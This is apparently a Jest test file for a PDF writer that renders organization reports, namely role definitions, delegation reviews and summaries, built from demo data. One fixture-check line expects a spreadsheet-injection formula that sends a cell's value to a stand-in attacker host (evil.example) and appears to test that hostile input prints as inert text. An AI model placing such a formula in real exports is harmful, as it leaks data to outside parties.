import { DEMO_CAST } from '@rolemap/demo-data';
import { buildDelegationReview } from '../model/build-delegation-review';
import { buildOrganizationSummary } from '../model/build-organization-summary';
import { buildRoleDefinitions } from '../model/build-role-definitions';
import type { Report } from '../model/report-types';
import { readPdf, type PdfText } from '../testing/read-pdf';
import { awkwardInputs, collect, demoInputs, duty, inputsFrom, person, sparseInputs } from '../testing/report-fixtures';
import { writePdf } from './write-pdf';

async function pdfOf(
  report: Report,
  onProgress?: (done: number, total: number) => void,
): Promise<{ bytes: Buffer; pdf: PdfText }> {
  const { out, done } = collect();
  await writePdf(report, out, { onProgress });
  const bytes = await done;
  return { bytes, pdf: await readPdf(bytes) };
}

/** pdf-parse puts spaces and line breaks where the layout has them; compare words only. */
const flat = (text: string) => text.replace(/\s+/g, ' ');

describe('writePdf', () => {
  const demo = demoInputs();

  describe('role definitions for the whole demo company', () => {
    const report = buildRoleDefinitions(demo.snapshot, demo.analysis, demo.policy, demo.options, { all: true });
    let pdf: PdfText;
    const progress: Array<[number, number]> = [];
    beforeAll(async () => {
      ({ pdf } = await pdfOf(report, (done, total) => progress.push([done, total])));
    }, 60_000);

    it('opens with a cover naming report, organization, snapshot and scope', () => {
      expect(pdf.title).toBe('Role definitions: Northwind Robotics');
      const cover = flat(pdf.pages[0]);
      expect(cover).toContain('Role definitions');
      expect(cover).toContain('Northwind Robotics');
      expect(cover).toContain('Version 3, as of 1 November 2026');
      expect(cover).toContain(`All roles (${report.roles.length})`);
    });

    it('numbers every page "Page n of N"', () => {
      expect(pdf.total).toBeGreaterThan(report.roles.length);
      pdf.pages.forEach((page, i) => expect(page).toContain(`Page ${i + 1} of ${pdf.total}`));
    });

    it('has a table of contents whose page numbers lead to the roles', () => {
      // The running header names the section: "… · Role definitions   Contents".
      const contentPages = pdf.pages.filter((page) => /· Role definitions Contents$/m.test(page));
      expect(contentPages.length).toBeGreaterThan(1);
      const contents = contentPages.map(flat).join(' ');
      for (const role of [
        report.roles[0],
        report.roles.find((r) => r.holder?.employeeId === DEMO_CAST.promotedDirector)!,
        report.roles[report.roles.length - 1],
      ]) {
        const entry = `${role.title} · ${role.holder?.name ?? 'Vacant'}`;
        const match = new RegExp(`${escape(entry)}\\s+(\\d+)`).exec(contents);
        expect(match).not.toBeNull();
        const page = Number(match![1]);
        const text = flat(pdf.pages[page - 1]);
        expect(text).toContain(role.title);
        expect(text).toContain(role.holder ? `Held by ${role.holder.name} (${role.holder.employeeId})` : 'Vacant post');
      }
    });

    it('gives each role its sections, explanations and advice', () => {
      const text = flat(pdf.text);
      const director = report.roles.find((role) => role.holder?.employeeId === DEMO_CAST.promotedDirector)!;
      expect(text).toContain('Value-level mix: expected vs actual');
      expect(text).toContain('Expected of a director');
      expect(text).toContain('What to delegate and to whom');
      expect(text).toContain('Carried over: held since before the last promotion on 14 February 2026.');
      expect(text).toContain(flat(director.levelsToTakeOn[0].advice));
      // Explanations from the analysis, as written (the long ones wrap over lines).
      expect(text).toContain('Maya Lindqvist was promoted to Director of Engineering, Platform on 2026-02-14');
      expect(text).toContain('Olivia Grant (Customer Support Manager) has 14 direct reports');
    });

    it('reports progress up to the total, laying out then writing each role', () => {
      expect(progress[progress.length - 1]).toEqual([report.roles.length * 2, report.roles.length * 2]);
      expect(progress.map(([done]) => done)).toEqual(progress.map((_, i) => i + 1));
    });
  });

  it('a single role has no contents page', async () => {
    const report = buildRoleDefinitions(demo.snapshot, demo.analysis, demo.policy, demo.options, {
      employeeId: DEMO_CAST.customerSupportManager,
    });
    const { pdf } = await pdfOf(report);
    expect(pdf.pages.some((page) => /^Contents$/m.test(page))).toBe(false);
    expect(flat(pdf.text)).toContain('Customer Support Manager');
    expect(pdf.pages[0]).toContain(`Page 1 of ${pdf.total}`);
  }, 30_000);

  it('breaks a long responsibilities table across pages, repeating its header, without losing a row', async () => {
    const duties = Array.from({ length: 70 }, (_, i) =>
      duty(
        'L1',
        `Responsibility number ${i + 1} with a title long enough to wrap onto a second line in the table column`,
        'IMPLEMENTATION',
        1,
      ),
    );
    const inputs = inputsFrom([person('L1', 'Software Engineer', null, { name: 'Lee Long' })], duties);
    const report = buildRoleDefinitions(inputs.snapshot, inputs.analysis, inputs.policy, inputs.options, { all: true });
    const { pdf } = await pdfOf(report);
    const rolePages = pdf.pages.slice(2).map(flat);
    expect(rolePages.length).toBeGreaterThan(2);
    const withTable = rolePages.filter((page) => page.includes('Responsibility number'));
    expect(withTable.length).toBeGreaterThan(1);
    for (const page of withTable) expect(page).toContain('Responsibility Share Held since');
    const all = rolePages.join(' ');
    for (let i = 1; i <= 70; i++) expect(all.split(`Responsibility number ${i} with`).length - 1).toBe(1);
  }, 30_000);

  it('handles a vacant post, a role without responsibilities and names beyond Latin-1', async () => {
    const inputs = awkwardInputs();
    const report = buildRoleDefinitions(inputs.snapshot, inputs.analysis, inputs.policy, inputs.options, { department: 'Sales' });
    const { pdf } = await pdfOf(report);
    const text = flat(pdf.text);
    expect(text).toContain('Vacant post (V1)');
    expect(text).toContain('This post is vacant');
    expect(text).toContain('No responsibilities are recorded for this role');
    expect(text).toContain('Zoë Łukasiewicz');
    expect(text).toContain('=HYPERLINK("http://evil.example/?leak="&A1,"Click for bonus")');
  }, 30_000);

  it('prints no mix for a role without data, what was not checked, the chain and the severity appendix', async () => {
    const sparse = sparseInputs();
    const roles = await pdfOf(
      buildRoleDefinitions(sparse.snapshot, sparse.analysis, sparse.policy, sparse.options, { all: true }),
    );
    const text = flat(roles.pdf.text);
    expect(text).toContain('Not assessed: no responsibilities are recorded for this role, so there is no mix to compare');
    expect(text).toContain('Delegation gap: no responsibilities recorded');
    expect(text).toContain('Alex Tech hands “Log daily checks” to Sam Tech');
    expect(text).toContain('Best fit: Sam Tech');
    expect(text).toContain('Appendix: what severity means and how it is computed');
    // The mix chart is drawn for the three roles with data only.
    expect(text.split('Value-level mix: expected vs actual').length - 1).toBe(3);

    const review = flat(
      (await pdfOf(buildDelegationReview(sparse.snapshot, sparse.analysis, sparse.policy, sparse.options, 'D1'))).pdf.text,
    );
    expect(review).toContain('Responsibilities are recorded for 3 of the 5 positions in the team.');
    expect(review).toContain('Mo Manager (Operations Manager): Delegation gap: no responsibilities recorded');
    const summary = flat(
      (await pdfOf(buildOrganizationSummary(sparse.snapshot, sparse.analysis, sparse.policy, sparse.options))).pdf.text,
    );
    expect(summary).toContain('Responsibilities are recorded for 3 of 5 positions (60%).');
    expect(summary).toContain('Delegation gap: not checked for 1 person (no responsibilities recorded: 1)');
  }, 30_000);

  it('writes a delegation review, and says so when a leader has no gaps', async () => {
    const withGaps = await pdfOf(
      buildDelegationReview(demo.snapshot, demo.analysis, demo.policy, demo.options, DEMO_CAST.vpSales),
    );
    const text = flat(withGaps.pdf.text);
    expect(text).toContain('Delegation review: Greg Whitfield (VP Sales)');
    expect(text).toContain('Prepare the weekly pipeline spreadsheet');
    expect(text).toContain('Aisha Karimi');
    expect(text).toContain('Suggested delegate: Aisha Karimi (Sales Operations Manager, a direct report)');

    const none = await pdfOf(
      buildDelegationReview(demo.snapshot, demo.analysis, demo.policy, demo.options, DEMO_CAST.billingAnalyst),
    );
    expect(flat(none.pdf.text)).toContain('No delegation gaps in Nadia Petrova’s team (1 role)');
  }, 30_000);

  it('writes the organization summary with its figures and top risks', async () => {
    const summary = buildOrganizationSummary(demo.snapshot, demo.analysis, demo.policy, demo.options);
    const { pdf } = await pdfOf(summary);
    const text = flat(pdf.text);
    for (const heading of [
      'At a glance',
      'Findings by kind',
      'Findings by department',
      'Spans of control',
      'Layers',
      'Top risks',
      'Tactical load of leaders',
    ]) {
      expect(text).toContain(heading);
    }
    expect(text).toContain(`${summary.spans.managers} people manage others`);
    expect(text).toContain(flat(summary.topRisks[0].explanation).slice(0, 80));
  }, 30_000);
});

function escape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
